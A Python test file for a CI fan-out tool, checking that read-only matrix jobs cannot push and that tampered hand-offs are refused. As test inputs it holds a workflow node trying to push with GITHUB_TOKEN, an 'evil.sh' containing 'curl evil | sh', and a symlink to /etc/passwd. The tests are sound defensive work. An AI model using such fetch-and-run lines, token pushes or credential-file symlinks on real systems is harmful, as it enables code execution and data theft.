"""A fan-out wave whose matrix jobs hold a read-only token, as `omg-fanout.yml` runs it: each
job runs its entry and hands its record (and its lanes' commits) off as a workflow artifact
named for the entry; the fold, which holds the write token and runs no node, downloads them by
name, verifies each, and only then folds, pushes and dispatches."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pygit2
import pytest
from kit import ScriptedClaude

from omg.ci.handoff import Plan, bundle, nothing

from .kit import READ_TOKEN, Job, Repo
from .test_fanout import LANES, TWELVE, WIDE, comparable, plan, records, solo, starts
from .test_two_jobs_caps import spent

Make = Callable[[str], Repo]
RUN = 8200  # the workflow run the wave's jobs belong to (its artifacts are per run)
SIG = pygit2.Signature("omg", "omg@example.com")


def artifact(rid: str, entry: str) -> str:
    return f"omg-fanout-{rid}-{entry}"


def entry_job(gh: Repo, rid: str, entry: str, base: str, out: Path) -> Job:
    """A matrix job in the new shape: a read-only token, its record handed off into ``out``."""
    job = gh.run(
        "workflow_dispatch", gh.dispatch_event({"run-id": rid}), command=("leg",),
        workflow="omg-fanout.yml", token=READ_TOKEN, run_id=RUN,
        extra={"OMG_RUN_ID": rid, "OMG_NODE": entry, "OMG_BASE": base, "OMG_HAND_OFF": str(out)},
    )  # fmt: skip
    assert job.rc in (0, 1), job.stderr
    return job


def fold_job(gh: Repo, rid: str, base: str, where: Path) -> Job:
    """The fold: every artifact of the run's entries downloaded by name, then `omg leg --fold`."""
    entries = where / f"entries-{len(list(where.glob('entries-*')))}"
    entries.mkdir()
    for a in gh.api.artifacts.get(RUN, []):
        if a["name"].startswith(f"omg-fanout-{rid}-"):
            gh.api.download(RUN, a["name"], entries / a["name"])
    extra = {"OMG_RUN_ID": rid, "OMG_FOLD": "true", "OMG_BASE": base, "OMG_HAND_OFF": str(entries)}
    job = gh.run(
        "workflow_dispatch", gh.dispatch_event({"run-id": rid}), workflow="omg-fanout.yml",
        run_id=RUN, extra=extra,
    )  # fmt: skip
    assert job.rc in (0, 1), job.stderr
    return job


def handed_wave(gh: Repo, rid: str, where: Path, tamper: Callable[[str, Job, Path], None] | None
                = None) -> tuple[dict[str, Job], Job]:  # fmt: skip
    """Plan, each entry's job (its hand-off uploaded unless ``tamper`` replaces it), the fold."""
    p = plan(gh, rid)
    assert p.rc == 0, p.stderr
    base = p.outputs["base"]
    gh.api.artifacts.pop(RUN, None)  # a new wave is a new workflow run
    jobs = {}
    for e in json.loads(p.outputs["matrix"])["include"]:
        out = where / f"up-{rid}-{e['node']}-{len(list(where.glob('up-*')))}"
        jobs[e["node"]] = job = entry_job(gh, rid, e["node"], base, out)
        if tamper is not None:
            tamper(e["node"], job, out)
        if out.exists():
            gh.api.upload(RUN, artifact(rid, e["node"]), out)
    return jobs, fold_job(gh, rid, base, where)


def test_a_wave_handed_off_lands_the_same_run_record_as_one_published_on_refs(
    github: Make, tmp_path: Path
) -> None:
    gh = github(LANES)
    folds = []
    while not folds or folds[-1].outputs["next"] == "dispatch":
        jobs, f = handed_wave(gh, "lanes", tmp_path)
        assert all(j.outputs["status"] == "published" for j in jobs.values())
        folds.append(f)
        assert len(folds) < 4
    assert folds[-1].outputs["status"] == "passed", folds[-1].stderr
    fanned = gh.run_state("lanes")
    # the legs a wave published on refs folds (test_fanout's lanes test): a and c, then d
    assert [leg.get("fanout") for leg in fanned["legs"]] == [
        None, {"folded": ["a", "c"]}, {"folded": ["d"]}
    ]  # fmt: skip
    assert starts(gh, "lanes") == {"a": 1, "b": 1, "c": 1, "d": 1}
    origin = pygit2.Repository(str(gh.origin))
    lane = origin.revparse_single("refs/heads/omg/work/lanes/w").peel(pygit2.Commit)
    assert {"a.txt", "b.txt"} <= {e.name for e in lane.tree}
    assert fanned["worktrees"]["w"]["commit"] == str(lane.id)
    assert origin.revparse_single("refs/heads/omg/runs/lanes:artifacts/d.out").data == (
        b"from a\nfrom b\n"
    )
    assert records(gh, "lanes") == []  # no matrix job wrote a ref

    alone = solo(gh, "lanes")  # and the same graph run on one machine, in one leg
    for view in (fanned, alone):
        view.pop("worktrees")  # a run without commits keeps no lane branch (checked above)
    assert comparable(fanned) == comparable(alone)


ATTACK = (
    "name: wide\nconcurrency: 2\nnodes:\n  - id: attack\n    run: >-\n"
    '      git push "http://x-access-token:$GITHUB_TOKEN@${GITHUB_SERVER_URL#http://}/repo.git"'
    " HEAD:refs/omg/fanout/wide/attack HEAD:refs/heads/omg/runs/wide;\n"
    "      echo push=$?\n"
    "    env: [GITHUB_TOKEN, GITHUB_SERVER_URL]\n"
    "  - {id: other, run: 'echo other'}\n"
)


def test_a_matrix_job_holds_a_read_only_token_its_node_cannot_push_its_ref_or_the_run(
    github: Make, tmp_path: Path
) -> None:
    gh = github(ATTACK)
    base = plan(gh, "wide").outputs["base"]
    job = entry_job(gh, "wide", "attack", base, tmp_path / "up")
    assert job.rc == 0, job.stderr
    assert (tmp_path / "up" / "manifest.json").exists()
    said = pygit2.Repository(str(job.clone)).revparse_single(
        "refs/heads/omg/runs/wide:artifacts/attack.out"
    )
    assert "push=" in said.data.decode() and "push=0" not in said.data.decode()
    assert records(gh, "wide") == []
    assert gh.run_head("wide") == base  # the run branch is where the plan left it


def _rebundle(job: Job, out: Path, rid: str, entry: str, change: Callable[[pygit2.Repository,
              pygit2.Commit], pygit2.Oid]) -> None:  # fmt: skip
    """What a compromised matrix job could hand off: its record changed by ``change`` (a new
    tree on the record's parent), bundled consistently, in place of the honest hand-off."""
    repo = pygit2.Repository(str(job.clone))
    ref = f"refs/heads/omg/runs/{rid}"
    record = repo.references[ref].peel(pygit2.Commit)
    manifest = json.loads((out / "manifest.json").read_text())
    forged = repo.create_commit(None, SIG, SIG, "forged", change(repo, record), record.parent_ids)
    repo.references[ref].set_target(forged)
    shutil.rmtree(out)
    olds = {r["ref"]: r["old"] for r in manifest["refs"]}
    bundle(job.clone, out, Plan(rid, "wide", manifest["leg"], olds, tuple(manifest["base"]),
                                entry), nothing())  # fmt: skip


def _with(path: str, data: bytes, mode: int = pygit2.enums.FileMode.BLOB) -> Callable[
        [pygit2.Repository, pygit2.Commit], pygit2.Oid]:  # fmt: skip
    def change(repo: pygit2.Repository, record: pygit2.Commit) -> pygit2.Oid:
        index = pygit2.Index()
        index.read_tree(record.tree)
        index.add(pygit2.IndexEntry(path, repo.create_blob(data), mode))
        return index.write_tree(repo)

    return change


def _events(edit: Callable[[list[dict]], None]) -> Callable[
        [pygit2.Repository, pygit2.Commit], pygit2.Oid]:  # fmt: skip
    def change(repo: pygit2.Repository, record: pygit2.Commit) -> pygit2.Oid:
        lines = [json.loads(ln) for ln in record.tree["events.jsonl"].data.decode().splitlines()]
        edit(lines)
        text = "".join(json.dumps(ln, separators=(",", ":")) + "\n" for ln in lines)
        return _with("events.jsonl", text.encode())(repo, record)

    return change


def _forged_verdict(record: pygit2.Commit) -> bytes:
    state = json.loads(record.tree["state.json"].data)
    state["nodes"]["t01"]["verdict"] = "FAIL"
    return json.dumps(state, indent=2).encode()


def _extra(lines: list[dict]) -> None:
    last = lines[-1]
    lines.append({**last, "seq": last["seq"] + 1, "event": "node_passed", "node_id": "t02"})


TAMPERS: dict[str, Callable[[pygit2.Repository, pygit2.Commit], pygit2.Oid]] = {
    "a forged verdict": lambda repo, rec: _with("state.json", _forged_verdict(rec))(repo, rec),
    "an extra event": _events(_extra),
    "a foreign file": _with("evil.sh", b"curl evil | sh\n"),
    "a symlink": _with("artifacts/t03.out", b"/etc/passwd", pygit2.enums.FileMode.LINK),
}


#: What the fold says of each: the check that caught it.
CAUGHT = {
    "a forged verdict": "refused (record)",
    "an extra event": "refused (record)",
    "a foreign file": "refused (tree): refs/heads/omg/runs/wide:evil.sh",
    "a symlink": "artifacts/t03.out is a symbolic link",
    "another entry's record": "refused (plan): manifest.json is for entry 't02', not 't01'",
}


@pytest.mark.parametrize("kind", CAUGHT)
def test_a_tampered_entry_hand_off_is_refused_by_the_fold_and_the_rest_of_the_wave_folds(
    github: Make, tmp_path: Path, kind: str
) -> None:
    gh = github(WIDE)
    swapped: dict[str, Path] = {}

    def tamper(entry: str, job: Job, out: Path) -> None:
        if entry == "t02" and kind == "another entry's record":
            swapped["t02"] = out  # t02's honest hand-off, uploaded as t01's below
        elif entry == "t01" and kind in TAMPERS:
            _rebundle(job, out, "wide", "t01", TAMPERS[kind])

    p = plan(gh, "wide")
    base = p.outputs["base"]
    gh.api.artifacts.pop(RUN, None)
    for e in json.loads(p.outputs["matrix"])["include"]:
        out = tmp_path / f"up-{e['node']}"
        tamper(e["node"], entry_job(gh, "wide", e["node"], base, out), out)
        if e["node"] == "t01" and kind == "another entry's record":
            continue  # its own hand-off is lost; t02's is uploaded in its name
        if e["node"] in swapped:
            gh.api.upload(RUN, artifact("wide", "t01"), out)
            continue
        gh.api.upload(RUN, artifact("wide", e["node"]), out)
    f = fold_job(gh, "wide", base, tmp_path)
    assert f.rc == 0, f.stderr
    assert "entry t01: The leg's output was refused" in f.stderr
    assert CAUGHT[kind] in f.stderr
    bad = "t01"
    state = gh.run_state("wide")
    fanout = state["legs"][-1]["fanout"]
    missing = ["t01", "t02"] if kind == "another entry's record" else ["t01"]
    assert fanout == {
        "folded": [n for n in TWELVE if n not in missing],
        "missing": missing,
        "stale": [bad],
    }
    assert state["nodes"].get("t01", {}).get("verdict", "") == ""  # nothing of it landed
    assert "t01" not in starts(gh, "wide")
    tree = pygit2.Repository(str(gh.origin)).revparse_single("refs/heads/omg/runs/wide").peel(
        pygit2.Commit
    ).tree  # fmt: skip
    assert "evil.sh" not in tree and tree["artifacts/t03.out"].filemode == 0o100644
    again = handed_wave(gh, "wide", tmp_path)[1]  # the refused entry is planned again
    assert again.rc == 0 and gh.run_state("wide")["nodes"]["t01"]["verdict"] == "PASS"


CAPPED_WAVES = """\
name: capped
day_budget_usd: 0.05
nodes:
  - id: a
    prompt: Do a.
  - id: b
    prompt: Do b.
  - id: c
    prompt: Do c.
    depends_on: [a, b]
"""


def test_a_handed_off_wave_books_its_spend_and_the_next_waves_matrix_job_sees_it(
    github: Make, tmp_path: Path
) -> None:
    """The matrix jobs write no book: the fold books the wave's spend from the records it
    verified, and a later wave's matrix job reads the remote's book, so a day's cap holds."""
    claude = ScriptedClaude(tmp_path / "claude")
    claude.replies([{"result": "DONE", "cost": 0.03}])
    gh, extra = github(CAPPED_WAVES), {"OMG_CLAUDE_BIN": str(claude.bin)}
    day = "day/" + datetime.now(UTC).strftime("%Y-%m-%d")
    for wave in (1, 2):
        p = plan(gh, "capped")
        assert p.rc == 0, p.stderr
        base = p.outputs["base"]
        gh.api.artifacts.pop(RUN, None)  # a new wave is a new workflow run
        for e in json.loads(p.outputs["matrix"])["include"]:
            out = tmp_path / f"up-{wave}-{e['node']}"
            job = gh.run(
                "workflow_dispatch", gh.dispatch_event({"run-id": "capped"}), command=("leg",),
                workflow="omg-fanout.yml", token=READ_TOKEN, run_id=RUN,
                extra={"OMG_RUN_ID": "capped", "OMG_NODE": e["node"], "OMG_BASE": base,
                       "OMG_HAND_OFF": str(out), **extra},
            )  # fmt: skip
            assert job.rc in (0, 1), job.stderr
            gh.api.upload(RUN, artifact("capped", e["node"]), out)
        fold = fold_job(gh, "capped", base, tmp_path)
        assert fold.rc == 0, fold.stderr
        if wave == 1:
            assert len(claude.calls()) == 2  # a and b, each on its own machine
            assert spent(gh, day) == (0.06, {"capped"})  # booked by the fold, from the record
    assert len(claude.calls()) == 2  # c's matrix job saw the day's $0.06 of $0.05: not started
    assert "c" not in gh.run_state("capped")["nodes"]
    assert spent(gh, day) == (0.06, {"capped"})
